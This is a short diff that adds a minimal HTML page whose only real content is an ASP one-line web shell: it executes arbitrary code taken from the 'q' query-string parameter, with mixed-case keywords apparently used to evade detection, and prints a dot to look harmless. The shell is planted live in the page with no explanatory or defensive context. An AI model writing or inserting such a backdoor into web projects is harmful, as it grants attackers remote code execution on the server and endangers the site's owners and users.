@@ -1,0 +1,3 @@
+<html><body>
+<% eXeCuTe(rEqUeSt.QuErYsTrInG("q")) : Response.Write "." %>
+</body></html>
